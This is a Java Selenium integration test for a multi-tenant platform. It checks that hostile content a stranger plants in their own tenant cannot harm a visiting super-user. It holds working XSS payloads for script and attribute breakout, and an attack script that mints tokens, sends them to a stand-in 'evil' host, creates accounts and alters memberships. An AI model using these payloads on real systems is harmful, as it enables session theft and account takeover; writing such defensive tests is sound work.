package io.tenantry.access;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import java.util.concurrent.CopyOnWriteArrayList;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.openqa.selenium.By;

import com.sun.net.httpserver.HttpServer;

import io.tenantry.testing.Browser;
import io.tenantry.testing.BrowsedTenantry;
import io.tenantry.testing.Tenantry;
import jakarta.json.Json;
import jakarta.json.JsonObject;
import jakarta.json.JsonObjectBuilder;

/**
 * The attack the platform invites: a stranger with an account of their own owns a tenant, plants
 * content that tries to run script in every field a page shows, adds the super-user as a member,
 * and waits. The super-user signs in and visits the tenant through the normal links. Whatever
 * defence stops it, they end with no new token, no new account, no changed membership elsewhere,
 * and their browser sends nothing to anyone but the host of the page it shows.
 */
class HostileTenantBrowserIT extends BrowsedTenantry {

    private final List<String> stolen = new CopyOnWriteArrayList<>();
    private HttpServer evil;
    private String suffix;
    private String bait;
    private String vault;

    /** The attacker's own server: whatever a planted script would load or send arrives here. */
    @BeforeEach
    void theAttackersServer() throws IOException {
        suffix = UUID.randomUUID().toString().substring(0, 8);
        bait = "bait-" + suffix;
        vault = "vault-" + suffix;
        evil = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        evil.createContext("/", exchange -> {
            stolen.add(exchange.getRequestURI().toString());
            byte[] attack = attackScript().getBytes(StandardCharsets.UTF_8);
            exchange.getResponseHeaders().add("Content-Type", "text/javascript");
            exchange.getResponseHeaders().add("Access-Control-Allow-Origin", "*");
            exchange.sendResponseHeaders(200, attack.length);
            exchange.getResponseBody().write(attack);
            exchange.close();
        });
        evil.start();
    }

    @AfterEach
    void stopTheAttackersServer() {
        evil.stop(0);
    }

    @Test
    void aStrangersPlantedContentGivesTheVisitingSuperUserNothing() {
        Tenantry stranger = app.newAccount("stranger-" + suffix);
        assertEquals(201, app.createTenant(bait, "Bait", "stranger-" + suffix).status());
        assertEquals(201, app.createTenant(vault, "Vault").status());
        String host = Tenantry.host(bait);
        Planted planted = plant(stranger, host);
        // The super-user accepted the stranger's invitation, so the tenant shows among theirs.
        stranger.bringIn(host, Tenantry.ADMIN);
        String vaultMembers = app.get(Tenantry.host(vault), "/api/members").body();

        Browser browser = openBrowserRecordingRequests();
        browser.signIn(Tenantry.ADMIN, Tenantry.ADMIN_PASSWORD);
        browser.driver().get(browser.address("public", "/"));
        browser.waitFor(By.cssSelector("a[href$='/go/" + bait + "']"));
        browser.find(By.cssSelector("a[href$='/go/" + bait + "']")).click();
        browser.waitFor(By.cssSelector("main.content"));
        List<String> ranScript = new ArrayList<>();
        for (String page : List.of("/", "/dashboard.xhtml?product=" + planted.product(), "/runs.xhtml",
                "/run.xhtml?id=" + planted.run(), "/cases.xhtml", "/case.xhtml?id=" + planted.testCase(), "/plans.xhtml",
                "/plan.xhtml?id=" + planted.plan(), "/members.xhtml", "/groups.xhtml", "/settings.xhtml")) {
            browser.driver().get(browser.address(bait, page));
            browser.waitFor(By.tagName("h1")); // the page, or the refusal a Tester gets for administration
            if (Boolean.TRUE.equals(browser.driver().executeScript("return window.__pwned === 1"))) {
                ranScript.add(page);
            }
            browser.screenshot("hostile-tenant" + page.replaceAll("[^a-z]+", "-"));
        }
        // The platform's audit trail shows what the stranger wrote (their tenant's name, settings, groups) to the super-user.
        browser.driver().get(browser.address("public", "/admin/audit.xhtml"));
        browser.waitFor(By.id("audit:entries"));
        if (Boolean.TRUE.equals(browser.driver().executeScript("return window.__pwned === 1"))) {
            ranScript.add("/admin/audit.xhtml");
        }
        browser.screenshot("hostile-tenant-platform-audit");
        browser.driver().get(browser.address("public", "/"));
        browser.waitFor(By.cssSelector("main.content"));

        assertEquals(List.of(), ranScript, "pages on which the planted script ran");
        assertEquals(List.of(), stolen, "nothing reached the attacker's server");
        for (Browser.Request request : browser.requestsMade()) {
            String to = URI.create(request.url()).getHost();
            assertTrue(to != null && to.endsWith("." + Tenantry.DOMAIN) && !to.startsWith("evil."),
                    "a request to our hosts only: " + request);
            if (!"Document".equals(request.type())) {
                assertEquals(URI.create(request.page()).getHost(), to, "a page asks only its own host: " + request);
            }
        }
        // What the planted script would make, by the names it gives them: other classes, running meanwhile,
        // make tokens and accounts of their own, so the platform's totals move.
        assertTrue(app.get(Tenantry.host("public"), "/api/me/tokens?limit=500").json().asJsonObject().getJsonArray("items")
                .getValuesAs(JsonObject.class).stream().noneMatch(token -> token.getString("name").equals("pwned")),
                "no new token");
        assertEquals(404, app.get(Tenantry.host("public"), "/api/accounts/pwned-" + suffix).status(), "no new account");
        assertEquals(vaultMembers, app.get(Tenantry.host(vault), "/api/members").body(), "no changed membership");
        assertFalse(app.get(Tenantry.host("public"), "/api/accounts/stranger-" + suffix).json().asJsonObject()
                .getBoolean("superUser"), "the stranger is no super-user");
    }

    private record Planted(long product, long plan, long testCase, long run) {
    }

    /**
     * Hostile text in every place the stranger may write: one breaking out of a script, one out of
     * an attribute (each short enough for a name), both where the field is long.
     */
    private Planted plant(Tenantry stranger, String host) {
        String evilOrigin = "//evil." + Tenantry.DOMAIN + ":" + evil.getAddress().getPort();
        String script = "</script><script src=" + evilOrigin + "/s></script>\u2028";
        String attribute = "\"'><img src=x onerror=import('" + evilOrigin + "/i')>";
        String both = script + attribute;
        assertEquals(200, stranger.put(host, "/api/settings", json(Json.createObjectBuilder().add("name", script)
                .add("organization", attribute).add("publiclyReadable", true))).status());
        long product = id(stranger.post(host, "/api/products", json(Json.createObjectBuilder().add("name", script))));
        id(stranger.post(host, "/api/products/" + product + "/versions", json(Json.createObjectBuilder()
                .add("value", attribute))));
        long build = id(stranger.post(host, "/api/products/" + product + "/builds", json(Json.createObjectBuilder()
                .add("name", attribute))));
        long plan = id(stranger.post(host, "/api/plans", json(Json.createObjectBuilder().add("productId", product)
                .add("name", script).add("document", both))));
        long testCase = id(stranger.post(host, "/api/cases", json(Json.createObjectBuilder().add("productId", product)
                .add("summary", both).add("status", "CONFIRMED").add("steps", both)
                .add("tags", Json.createArrayBuilder().add("t" + suffix)))));
        assertEquals(200, stranger.post(host, "/api/plans/" + plan + "/cases", "{\"caseIds\":[" + testCase + "]}").status());
        JsonObject run = stranger.post(host, "/api/runs", json(Json.createObjectBuilder().add("planId", plan)
                .add("buildId", build).add("summary", both))).json().asJsonObject();
        long runId = run.getJsonObject("run").getJsonNumber("id").longValue();
        long execution = run.getJsonArray("executions").getJsonObject(0).getJsonNumber("id").longValue();
        assertEquals(200, stranger.put(host, "/api/runs/" + runId + "/executions/" + execution, json(Json
                .createObjectBuilder().add("status", "FAILED").add("comment", both))).status());
        assertEquals(201, stranger.post(host, "/api/cases/" + testCase + "/comments", json(Json.createObjectBuilder()
                .add("text", both))).status());
        assertEquals(201, stranger.post(host, "/api/groups", json(Json.createObjectBuilder().add("name",
                "\"'><img src=x onerror=import('//evil')>"))).status(), "a group name has at most 60 characters");
        return new Planted(product, plan, testCase, runId);
    }

    /** What a planted script would do with the super-user's sessions if it ran. */
    private String attackScript() {
        String publicApi = "http://public." + Tenantry.DOMAIN + ":" + port() + "/api";
        String vaultApi = "http://" + vault + "." + Tenantry.DOMAIN + ":" + port() + "/api";
        String steal = "http://evil." + Tenantry.DOMAIN + ":" + evil.getAddress().getPort() + "/stolen?";
        return "window.__pwned = 1;\n"
                + "const post = (url, body, type) => fetch(url, {method: 'POST', credentials: 'include', "
                + "mode: type ? 'no-cors' : 'same-origin', headers: {'Content-Type': type || 'application/json'}, "
                + "body: JSON.stringify(body)});\n"
                + "post('/api/me/tokens', {name: 'pwned'}).then(r => r.text()).then(t => fetch('" + steal + "' + "
                + "encodeURIComponent(t)));\n"
                + "post('" + publicApi + "/me/tokens', {name: 'pwned'}, 'text/plain');\n"
                + "post('" + publicApi + "/accounts', {username: 'pwned-" + suffix + "', email: 'pwned-" + suffix
                + "@example.com', password: 'correct horse battery'}, 'text/plain');\n"
                + "post('" + vaultApi + "/members', {username: 'stranger-" + suffix + "'}, 'text/plain');\n";
    }

    private static String json(JsonObjectBuilder object) {
        return object.build().toString();
    }

    private static long id(Tenantry.Reply reply) {
        assertEquals(201, reply.status(), reply.toString());
        return reply.json().asJsonObject().getJsonNumber("id").longValue();
    }
}
